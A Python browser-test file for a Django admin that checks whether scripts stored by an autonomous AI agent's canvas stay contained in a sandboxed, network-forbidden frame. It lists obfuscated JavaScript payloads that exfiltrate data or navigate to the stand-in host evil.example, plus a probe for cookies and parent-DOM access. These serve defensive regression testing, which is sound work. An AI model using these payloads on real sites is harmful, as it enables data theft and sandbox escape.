"""Canvas scripts are contained where Atom shows them: in the admin, an AUTONOMOUS agent's script runs inside
a sandboxed frame whose document forbids the network. Nothing outside the canvas (the admin's cookies, DOM,
storage) can be read, and no subresource request leaves the canvas, whatever the script says.

The scripts are stored directly, past the blocklist: containment must hold for whatever is stored.
"""

from __future__ import annotations

from typing import Any

import pytest

from governance.models import Canvas, CanvasKind, Maturity
from governance.tests.factories import make_agent, make_canvas

EVIL = "https://evil.example"
PAYLOADS: dict[str, str] = {
    "top-location": f"top['loc'+'ation']='{EVIL}/top';",
    "open": f"open('{EVIL}/open');",
    "image": f"new Image().src='{EVIL}/image';",
    "event-source": f"new EventSource('{EVIL}/events');",
    "form-submit": (
        f"var f=document.createElement('form');f.action='{EVIL}/form';f.method='post';document.body.appendChild(f);f.submit();"
    ),
    "storage": f"var s=Reflect.get(globalThis?.self??0,'local'+'Storage');new Image().src='{EVIL}/storage?'+s.length;",
    "script-element": f"var e=document.createElement('scr'+'ipt');e.src='{EVIL}/x.js';document.head.appendChild(e);",
    "fetch-beacon-socket": (
        f"try{{fetch('{EVIL}/fetch')}}catch(e){{}};try{{navigator.sendBeacon('{EVIL}/beacon','x')}}catch(e){{}};"
        f"try{{new WebSocket('wss://evil.example/ws')}}catch(e){{}};try{{fetch('/api/v1/agents/')}}catch(e){{}};"
    ),
    "parent-dom": (
        "try{parent.document.body.innerHTML='owned'}catch(e){};try{document.cookie}catch(e){};try{parent.document.title='owned'}catch(e){};"
    ),
    "self-navigation": f"location='{EVIL}/self';",
}

READ_OUTSIDE = """() => {
    const attempts = {
        cookie: () => document.cookie,
        parentDom: () => parent.document.body.innerHTML.length,
        parentCookie: () => parent.document.cookie,
        topLocation: () => top.location.href,
        storage: () => localStorage.length,
        session: () => sessionStorage.length,
    };
    const read = {};
    for (const [name, attempt] of Object.entries(attempts)) {
        try { read[name] = String(attempt()); } catch (error) { read[name] = "refused"; }
    }
    return read;
}"""


def _canvas_frame(page: Any) -> Any:
    frames = [frame for frame in page.frames if frame != page.main_frame]
    assert len(frames) == 1, [frame.url for frame in page.frames]
    return frames[0]


@pytest.mark.regression("BUG-094")
@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_p1_security_canvas_script_escapes_its_canvas_regression(payload, browser_page, admin_login, live_server):
    """BUG-094 (P1, security): the canvas script blocklist passed navigation and exfiltration (top location
    through a computed name, open(), an Image, an EventSource, a submitted form, storage through Reflect.get,
    a script element with an external src), and nothing contained a script once it passed: a blocklist always
    leaves gaps. Each payload is now rendered in the admin inside a sandboxed frame with a CSP forbidding the
    network; it reads nothing outside the canvas and sends no subresource request."""
    agent = make_agent(maturity=Maturity.AUTONOMOUS, name="autonomous-painter")
    canvas = make_canvas(agent=agent, kind=CanvasKind.HTML, title="Contained", content="<p id='inside'>inside</p>")
    Canvas.objects.filter(pk=canvas.pk).update(script=PAYLOADS[payload])
    page = browser_page
    admin_login(page)
    admin_cookies = {cookie["name"] for cookie in page.context.cookies()}
    assert "sessionid" in admin_cookies

    leaving: list[str] = []
    frame_navigations: list[str] = []
    popups: list[str] = []

    def gate(route: Any) -> None:
        """Every request that reaches the network layer passes here (a request the policy blocks never
        does): the admin's own loads go on; anything else is recorded and stopped before it leaves."""
        request = route.request
        in_canvas = request.frame != page.main_frame
        if in_canvas and request.is_navigation_request():
            if request.url.startswith(live_server.url):
                route.continue_()
                return
            frame_navigations.append(request.url)
        elif not in_canvas and request.url.startswith(live_server.url):
            route.continue_()
            return
        else:
            leaving.append(f"{request.method} {request.url}")
        route.abort()

    page.context.route("**/*", gate)
    page.on("websocket", lambda socket: leaving.append(f"WS {socket.url}"))
    page.context.on("page", lambda popup: popups.append(popup.url))

    admin_page = f"/admin/governance/canvas/{canvas.pk}/change/"
    page.goto(admin_page)
    frame_element = page.locator("iframe.canvas-frame")
    assert frame_element.get_attribute("sandbox") == "allow-scripts"
    page.wait_for_timeout(1500)

    assert leaving == [], leaving
    assert popups == []
    assert page.url.endswith(admin_page)
    assert page.title() != "owned"
    assert page.locator("body").inner_text().strip() != "owned"
    assert page.locator("iframe.canvas-frame").count() == 1
    if payload == "self-navigation":
        # The one thing no sandbox prevents (see the README): the frame navigates itself, carrying what it holds.
        assert frame_navigations == [f"{EVIL}/self"]
    else:
        assert frame_navigations == []
        read = _canvas_frame(page).evaluate(READ_OUTSIDE)
        assert read == dict.fromkeys(read, "refused"), read


@pytest.mark.django_db
def test_the_frame_document_forbids_the_network_and_foreign_framing(client, django_user_model):
    canvas = make_canvas(agent=make_agent(maturity=Maturity.AUTONOMOUS), kind=CanvasKind.HTML, content="<p>x</p>")
    Canvas.objects.filter(pk=canvas.pk).update(script="document.title='</script><b>x</b>'")
    client.force_login(django_user_model.objects.create_superuser("root", password="correct horse battery staple"))
    response = client.get(f"/admin/governance/canvas/{canvas.pk}/frame/")
    assert response.status_code == 200
    policy = dict(part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";") if part.strip())
    assert policy["default-src"] == "'none'"
    assert policy["script-src"].startswith("'nonce-")
    for directive in ("connect-src", "img-src", "form-action", "base-uri", "object-src", "frame-src", "worker-src"):
        assert policy[directive] == "'none'", directive
    assert policy["frame-ancestors"] == "'self'"
    assert policy["sandbox"] == "allow-scripts"
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert "</script><b>" not in response.content.decode()


@pytest.mark.django_db
def test_the_frame_document_needs_the_canvas_view_permission(client, django_user_model):
    canvas = make_canvas(agent=make_agent(maturity=Maturity.AUTONOMOUS))
    client.force_login(django_user_model.objects.create_user("staff", password="correct horse battery staple", is_staff=True))
    assert client.get(f"/admin/governance/canvas/{canvas.pk}/frame/").status_code == 403


ISSUE_PAYLOADS = ("top-location", "open", "image", "event-source", "form-submit", "storage", "script-element")


@pytest.mark.parametrize("payload", ISSUE_PAYLOADS)
def test_the_blocklist_refuses_the_payloads_of_the_issue(payload):
    """The blocklist stays a cheap first filter: each payload the issue found stored is refused at the door."""
    from governance.sanitize import canvas_script_problem

    assert canvas_script_problem(PAYLOADS[payload]) is not None
